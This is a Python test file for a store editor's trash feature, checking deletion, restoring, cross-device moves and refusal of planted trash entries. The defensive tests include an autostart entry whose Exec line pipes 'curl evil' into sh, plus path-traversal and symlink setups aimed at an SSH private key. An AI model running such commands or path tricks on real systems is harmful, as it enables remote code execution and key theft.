"""Delete into the store's trash and restore; new items never overwrite."""

from __future__ import annotations

import json
import stat

import pytest

from daycare_gui.stores.common.edit.errors import InvalidValue
from daycare_gui.stores.common.edit.trash import (
    MANIFEST_NAME,
    TrashError,
    list_trash,
    move_to_trash,
    restore,
    scan_trash,
    trash_dir,
)
from daycare_gui.stores.daycare.demo import write_demo
from daycare_gui.stores.daycare.edit.create import (
    create_app,
    create_cron_task,
    create_heartbeat,
    create_skill,
)
from daycare_gui.stores.daycare.edit.views import CronTaskDoc
from daycare_gui.stores.daycare.paths import resolve_paths


@pytest.fixture
def store(tmp_path):
    root = tmp_path / "daycare"
    write_demo(root)
    return resolve_paths(root)


def _tree(folder):
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_delete_folder_and_restore_round_trip(store):
    folder = store.root / "cron" / "daily-digest"
    before = _tree(folder)
    entry = move_to_trash(store, folder)
    assert not folder.exists()
    assert entry.kind == "folder"
    assert entry.stored == trash_dir(store) / entry.folder.name / "cron" / "daily-digest"
    assert _tree(entry.stored) == before
    manifest = json.loads((entry.folder / MANIFEST_NAME).read_text())
    assert manifest["original"] == str(folder) and manifest["relative"] == "cron/daily-digest"
    assert [e.original for e in list_trash(store)] == [folder]
    assert restore(entry) == folder
    assert _tree(folder) == before
    assert list_trash(store) == []


def test_delete_file_and_restore(store):
    path = store.root / "heartbeat" / "check-inbox.md"
    data = path.read_bytes()
    entry = move_to_trash(store, path)
    assert not path.exists() and entry.kind == "file"
    restore(entry)
    assert path.read_bytes() == data


def test_restore_refuses_when_something_is_there_again(store):
    path = store.root / "heartbeat" / "check-inbox.md"
    entry = move_to_trash(store, path)
    path.write_text("new")
    with pytest.raises(TrashError, match="exists again"):
        restore(entry)
    assert path.read_text() == "new" and entry.stored.exists()


def test_refuses_outside_the_store_and_protected_paths(store, tmp_path):
    outside = tmp_path / "elsewhere.txt"
    outside.write_text("x")
    with pytest.raises(TrashError, match="not inside"):
        move_to_trash(store, outside)
    assert outside.exists()
    for protected in (store.db_path, store.root, store.settings_path):
        with pytest.raises(TrashError):
            move_to_trash(store, protected)
    entry = move_to_trash(store, store.root / "heartbeat" / "check-inbox.md")
    with pytest.raises(TrashError, match="already in the trash"):
        move_to_trash(store, entry.stored)


def test_two_deletes_in_the_same_instant_get_separate_folders(store):
    import datetime as dt

    now = dt.datetime(2026, 1, 1, 12, 0, 0)
    a = move_to_trash(store, store.root / "heartbeat" / "check-inbox.md", now=now)
    b = move_to_trash(store, store.root / "heartbeat" / "budget-watch.md", now=now)
    assert a.folder != b.folder
    assert len(list_trash(store)) == 2


def test_create_cron_task_and_refuse_overwrite(store):
    path = create_cron_task(store, "Water the plants", "0 8 * * *")
    assert path == store.legacy_dir / "cron" / "water-the-plants" / "TASK.md"
    view = CronTaskDoc.parse(path.read_bytes())
    assert view.get_field("schedule") == "0 8 * * *" and view.problems() == []
    with pytest.raises(FileExistsError):
        create_cron_task(store, "Water the plants")
    with pytest.raises(FileExistsError):
        create_cron_task(store, "Daily digest", folder_id="daily-digest")
    with pytest.raises(InvalidValue):
        create_cron_task(store, "Broken", "every day")
    assert not (store.legacy_dir / "cron" / "broken").exists()


def test_create_heartbeat_app_skill(store):
    hb = create_heartbeat(store, "Check the mail")
    assert hb == store.legacy_dir / "heartbeat" / "check-the-mail.md"
    with pytest.raises(FileExistsError):
        create_heartbeat(store, "Check the mail")
    app = create_app(store.workspace_dir / "apps", "notes", "Notes", "Keeps notes")
    assert sorted(p.name for p in app.iterdir()) == ["APP.md", "PERMISSIONS.md"]
    with pytest.raises(FileExistsError):
        create_app(store.workspace_dir / "apps", "deploy-check", "D", "d")
    assert (store.workspace_dir / "apps" / "deploy-check" / "APP.md").read_text().startswith("---\nname: deploy-check")
    skill = create_skill(store.root / "skills", "Tidy up", "Clean the desktop")
    assert skill == store.root / "skills" / "tidy-up" / "SKILL.md"


def test_the_trash_keeps_an_item_private_to_its_owner(store):
    folder = store.root / "cron" / "daily-digest"
    folder.chmod(0o700)  # its files are private through their folder, not their own modes
    entry = move_to_trash(store, folder)
    assert stat.S_IMODE(entry.folder.stat().st_mode) == 0o700


# --- across file systems: copy, verify, then remove; the trash copy is never deleted once removal began ---


def _modes(folder):
    return {str(p.relative_to(folder)): p.stat().st_mode & 0o7777 for p in sorted(folder.rglob("*"))}


@pytest.fixture
def cross_device(monkeypatch):
    """Every rename fails as it does between two file systems (the workspace on another disk)."""
    import errno
    import os

    def rename(src, dst, *args, **kwargs):
        raise OSError(errno.EXDEV, "Invalid cross-device link", str(src), None, str(dst))

    monkeypatch.setattr(os, "rename", rename)


@pytest.fixture
def app_with_data(store):
    app = store.workspace_dir / "apps" / "deploy-check"
    for i in range(5):
        (app / f"data{i}.txt").write_text(f"precious {i}\n")
    (app / "data0.txt").chmod(0o600)
    return app


def test_cross_device_delete_copies_verifies_then_removes(store, app_with_data, cross_device):
    before, modes = _tree(app_with_data), _modes(app_with_data)
    entry = move_to_trash(store, app_with_data)
    assert not app_with_data.exists()
    assert _tree(entry.stored) == before and _modes(entry.stored) == modes  # modes kept too
    assert [e.original for e in list_trash(store)] == [app_with_data]
    assert restore(entry) == app_with_data  # back across the file systems the same way
    assert _tree(app_with_data) == before and _modes(app_with_data) == modes
    assert list_trash(store) == [] and not any(trash_dir(store).iterdir())


def test_cross_device_delete_whose_removal_fails_midway_keeps_the_full_copy(store, app_with_data, cross_device,
                                                                          monkeypatch):
    import os

    from daycare_gui.stores.common.edit import trash

    before = _tree(app_with_data)
    real_unlink, refused = os.unlink, []

    def unlink(path, *args, **kwargs):  # the original's data3.txt cannot be removed (once)
        if os.path.basename(os.fspath(path)) == "data3.txt" and not refused:
            refused.append(path)
            raise PermissionError(1, "Operation not permitted", os.fspath(path))
        return real_unlink(path, *args, **kwargs)

    monkeypatch.setattr(os, "unlink", unlink)
    with pytest.raises(TrashError) as failed:
        move_to_trash(store, app_with_data)
    monkeypatch.setattr(os, "unlink", real_unlink)
    # Nothing is lost: the trash holds the whole folder, the original only what could not be removed.
    (entry,) = list_trash(store)
    assert entry.original == app_with_data and _tree(entry.stored) == before
    assert _tree(app_with_data) == {"data3.txt": before["data3.txt"]}
    message = str(failed.value)
    assert str(app_with_data / "data3.txt") in message and "full copy is in the Trash" in message
    assert isinstance(failed.value, trash.TrashIncomplete) and failed.value.remaining == [app_with_data / "data3.txt"]
    # The user removes the rest by hand; the copy restores the folder byte for byte.
    (app_with_data / "data3.txt").unlink()
    app_with_data.rmdir()
    restore(entry)
    assert _tree(app_with_data) == before


def test_cross_device_copy_that_fails_deletes_nothing(store, app_with_data, cross_device, monkeypatch):
    import os
    import shutil

    before = _tree(app_with_data)
    real_copyfile = shutil.copyfile

    def copyfile(src, dst, *args, **kwargs):
        if os.path.basename(os.fspath(src)) == "data2.txt":
            raise OSError(28, "No space left on device", os.fspath(dst))
        return real_copyfile(src, dst, *args, **kwargs)

    monkeypatch.setattr(shutil, "copyfile", copyfile)
    with pytest.raises(TrashError, match="No space left.*nothing was deleted"):
        move_to_trash(store, app_with_data)
    assert _tree(app_with_data) == before
    assert list_trash(store) == [] and not any(trash_dir(store).iterdir())  # the partial copy is gone


def read_only(monkeypatch, folder):
    """``folder`` refuses new entries as a read-only folder does (simulated as well: root ignores modes)."""
    import builtins
    import errno
    import os

    folder = os.path.realpath(folder)

    def inside(path) -> bool:
        return os.path.realpath(os.fspath(path)).startswith(folder + os.sep)

    def denied(path):
        return PermissionError(errno.EACCES, "Permission denied", os.fspath(path))

    real_rename, real_open, real_mkdir = os.rename, builtins.open, os.mkdir

    def rename(src, dst, *args, **kwargs):
        if inside(src) or inside(dst):
            raise denied(dst)
        return real_rename(src, dst, *args, **kwargs)

    def open_(file, mode="r", *args, **kwargs):
        if isinstance(file, (str, bytes, os.PathLike)) and set(mode) & set("wxa+") and inside(file):
            raise denied(file)
        return real_open(file, mode, *args, **kwargs)

    def mkdir(path, *args, **kwargs):
        if inside(path):
            raise denied(path)
        return real_mkdir(path, *args, **kwargs)

    monkeypatch.setattr(os, "rename", rename)
    monkeypatch.setattr(builtins, "open", open_)
    monkeypatch.setattr(os, "mkdir", mkdir)


def test_restore_into_a_read_only_folder_says_so_and_keeps_the_item(store):
    path = store.root / "heartbeat" / "check-inbox.md"
    data = path.read_bytes()
    entry = move_to_trash(store, path)
    with pytest.MonkeyPatch.context() as mp:
        read_only(mp, path.parent)
        with pytest.raises(TrashError, match="cannot restore .*Permission denied.*still in the trash"):
            restore(entry)
    assert not path.exists() and entry.stored.read_bytes() == data
    assert list_trash(store) == [entry]
    restore(entry)  # once the folder is writable again
    assert path.read_bytes() == data


# --- the trash is part of the (untrusted) store: a planted manifest must not reach outside it -------------


def _plant(store, name, manifest, item=None):
    """A trash entry written by someone else: ``manifest`` as given, ``item`` (relative path → bytes)."""
    folder = trash_dir(store) / name
    folder.mkdir(parents=True)
    (folder / MANIFEST_NAME).write_text(json.dumps(manifest))
    for relative, data in (item or {}).items():
        (folder / relative).parent.mkdir(parents=True, exist_ok=True)
        (folder / relative).write_bytes(data)
    return folder


def _restore_everything_listed(store):
    for entry in list_trash(store):
        try:
            restore(entry)
        except TrashError:
            pass


@pytest.fixture
def home(tmp_path):
    """The user's own files beside the store: a private key and an autostart folder."""
    ssh = tmp_path / "home" / ".ssh"
    ssh.mkdir(parents=True)
    (ssh / "id_ed25519").write_bytes(b"PRIVATE KEY\n")
    (tmp_path / "home" / "autostart").mkdir()
    return tmp_path / "home"


def test_a_manifest_naming_a_place_outside_the_store_is_refused(store, home):
    autostart = home / "autostart" / "evil.desktop"
    folder = _plant(store, "20260101-000000-000001",
                    {"original": str(autostart), "relative": "evil.desktop", "kind": "file"},
                    {"evil.desktop": b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"})
    _restore_everything_listed(store)
    assert not autostart.exists()
    assert list_trash(store) == []
    (refused,) = scan_trash(store)[1]
    assert refused.folder == folder and "evil.desktop" in refused.reason


def test_a_relative_path_leaving_the_entry_folder_is_refused(store, home):
    key = home / ".ssh" / "id_ed25519"
    up = "/".join([".."] * len((trash_dir(store) / "x").relative_to(home.parent).parts))
    relative = f"{up}/home/.ssh/id_ed25519"
    _plant(store, "20260101-000000-000002",
           {"original": str(store.root / relative), "relative": relative, "kind": "file"})
    assert (trash_dir(store) / "20260101-000000-000002" / relative).resolve() == key  # it would have been moved
    _restore_everything_listed(store)
    assert key.read_bytes() == b"PRIVATE KEY\n"
    assert list_trash(store) == []
    (refused,) = scan_trash(store)[1]
    assert "leaves the entry folder" in refused.reason


def test_a_symlinked_folder_in_an_entry_is_refused(store, home):
    key = home / ".ssh" / "id_ed25519"
    folder = _plant(store, "20260101-000000-000003",
                    {"original": str(store.root / "stolen" / "id_ed25519"), "relative": "stolen/id_ed25519"})
    (folder / "stolen").symlink_to(home / ".ssh")
    linked = trash_dir(store) / "20260101-000000-000004"
    linked.symlink_to(home / ".ssh")  # the entry folder itself a link to the user's folder
    (home / ".ssh" / MANIFEST_NAME).write_text(json.dumps(
        {"original": str(store.root / "id_ed25519"), "relative": "id_ed25519"}))
    _restore_everything_listed(store)
    assert key.read_bytes() == b"PRIVATE KEY\n"
    assert not (store.root / "stolen").exists() and not (store.root / "id_ed25519").exists()
    assert list_trash(store) == []
    reasons = sorted(r.reason for r in scan_trash(store)[1])
    assert len(reasons) == 2 and all("symlink" in r for r in reasons)


def test_a_trashed_symlink_pointing_out_of_the_store_is_refused(store, home):
    folder = _plant(store, "20260101-000000-000005",
                    {"original": str(store.root / "skills" / "key.md"), "relative": "skills/key.md"})
    (folder / "skills").mkdir()
    (folder / "skills" / "key.md").symlink_to(home / ".ssh" / "id_ed25519")
    _restore_everything_listed(store)
    assert not (store.root / "skills" / "key.md").is_symlink()
    (refused,) = scan_trash(store)[1]
    assert "outside the store" in refused.reason


def test_a_store_folder_turned_into_a_link_out_is_not_restored_through(store, home):
    path = store.root / "heartbeat" / "check-inbox.md"
    data = path.read_bytes()
    entry = move_to_trash(store, path)
    (store.root / "heartbeat").rename(store.root / "heartbeat-moved")
    (store.root / "heartbeat").symlink_to(home / "autostart")  # after the listing, before Restore
    with pytest.raises(TrashError, match="outside the store"):
        restore(entry)
    assert list(home.joinpath("autostart").iterdir()) == [] and entry.stored.read_bytes() == data


def test_a_trash_folder_that_is_a_link_out_of_the_store_is_not_used(store, home):
    trash_dir(store).symlink_to(home / "autostart", target_is_directory=True)
    path = store.root / "heartbeat" / "check-inbox.md"
    with pytest.raises(TrashError, match="is a symlink"):
        move_to_trash(store, path)
    assert path.exists() and list((home / "autostart").iterdir()) == []
    assert list_trash(store) == [] and "symlink" in scan_trash(store)[1][0].reason
